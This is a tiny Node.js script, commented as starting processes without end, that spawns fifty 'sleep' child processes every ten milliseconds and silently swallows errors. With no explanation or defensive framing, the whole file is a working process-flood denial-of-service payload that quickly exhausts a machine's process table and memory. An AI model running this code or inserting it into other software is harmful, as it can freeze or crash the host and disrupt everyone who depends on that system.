// Starts processes without end.
const { spawn } = require('node:child_process');

setInterval(() => {
  for (let count = 0; count < 50; count += 1) spawn('sleep', ['60']).on('error', () => {});
}, 10);
